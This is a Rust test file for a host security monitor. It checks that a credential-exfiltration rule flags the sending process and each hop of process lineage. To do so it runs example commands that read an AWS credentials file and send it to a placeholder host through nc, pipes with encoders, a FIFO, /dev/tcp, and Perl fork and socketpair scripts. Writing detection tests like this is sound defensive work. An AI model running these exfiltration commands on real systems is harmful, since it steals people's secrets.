//! A secret that goes from process to process before it leaves: the alert tells each hop.

use std::{fs, os::unix::fs::PermissionsExt, process::Stdio};

use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Outside},
    sentinel::{PATIENCE, Sentinel, within},
};
use serde_json::Value;

const TOKEN: &str = "[default]\naws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\n";

/// Runs `line` with KEY, HOST and PORT put in; returns the alerts of the rule.
fn told(line: &[&str]) -> Vec<Value> {
    let Some(bed) = Bed::new() else { return Vec::new() };
    let outside = Outside::new();
    fs::create_dir_all(bed.path(".aws")).unwrap();
    let key = bed.path(".aws/credentials");
    fs::write(&key, TOKEN).unwrap();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    let sentinel = Sentinel::start(&bed, &[]);
    let (there, loot) = outside.peer(ADDRESS);
    let code = |word: &&str| {
        word.replace("KEY", key.to_str().unwrap())
            .replace("HOST", ADDRESS)
            .replace("PORT", &there.port().to_string())
    };
    let mut command = outside.command(&bed, line[0]);
    command.args(line[1..].iter().map(code)).stdin(Stdio::null()).stdout(Stdio::null());
    assert!(command.status().unwrap().success());
    assert!(within(PATIENCE, || !loot.bytes().is_empty()), "nothing came");
    let all = sentinel.stop().alerts.into_iter();
    all.filter(|alert| alert["pattern_name"] == "credential_exfil").collect()
}

/// One critical alert about the program `sender`, whose data came `through` so many hops.
fn check(alerts: &[Value], sender: &str, through: &[&str]) {
    if !nix::unistd::geteuid().is_root() {
        return;
    }
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let alert = &alerts[0];
    assert_eq!(alert["severity"], "critical");
    assert!(alert["exe"].as_str().unwrap().contains(sender), "{alert:#}");
    let steps = alert["steps"].as_array().unwrap();
    let hops = steps.iter().filter(|step| step["event"] == "lineage");
    let hops: Vec<&str> = hops.map(|step| step["detail"].as_str().unwrap()).collect();
    assert_eq!(hops.len(), through.len(), "{hops:?}");
    assert!(hops.iter().zip(through).all(|(hop, way)| hop.ends_with(way)), "{hops:?}");
}

#[test]
fn through_a_pipe() {
    let alerts = told(&["bash", "-c", "cat KEY | nc.openbsd -N HOST PORT"]);
    check(&alerts, "nc.openbsd", &["through a pipe"]);
}

#[test]
fn through_pipes_and_encoders() {
    let alerts = told(&["bash", "-c", "cat KEY | tr a-z n-za-m | rev | nc.openbsd -N HOST PORT"]);
    check(&alerts, "nc.openbsd", &["through a pipe"; 3]);
}

#[test]
fn through_a_fifo() {
    let line =
        "d=$(mktemp -d); mkfifo $d/f; cat KEY >$d/f & nc.openbsd -N HOST PORT <$d/f; rm -r $d";
    check(&told(&["bash", "-c", line]), "nc.openbsd", &["through a pipe"]);
}

#[test]
fn through_a_shells_variable() {
    let alerts = told(&["bash", "-c", "x=$(cat KEY); echo \"$x\" >/dev/tcp/HOST/PORT"]);
    check(&alerts, "bash", &["through a pipe"]);
}

#[test]
fn through_a_fork() {
    let code = "open F,'<KEY'; local $/; $x = <F>; if (!fork) { socket S,2,1,0; \
                connect S,pack_sockaddr_in(PORT,inet_aton('HOST')) or die; syswrite S,$x; exit } wait";
    check(&told(&["perl", "-MSocket", "-e", code]), "perl", &["at its fork"]);
}

#[test]
fn through_a_socketpair() {
    let code = "socketpair A,B,1,1,0; if (!fork) { close A; sysread B,$x,4096; socket S,2,1,0; \
                connect S,pack_sockaddr_in(PORT,inet_aton('HOST')) or die; syswrite S,$x; exit } \
                close B; open F,'<KEY'; local $/; syswrite A,<F>; close A; wait";
    check(&told(&["perl", "-MSocket", "-e", code]), "perl", &["through a socket"]);
}

#[test]
fn a_shell_that_only_joins_the_two_is_not_meant() {
    let line =
        "cat KEY | nc.openbsd -N HOST PORT; head -c 5000 /dev/zero | nc.openbsd -N HOST PORT";
    check(&told(&["bash", "-c", line]), "nc.openbsd", &["through a pipe"]);
}
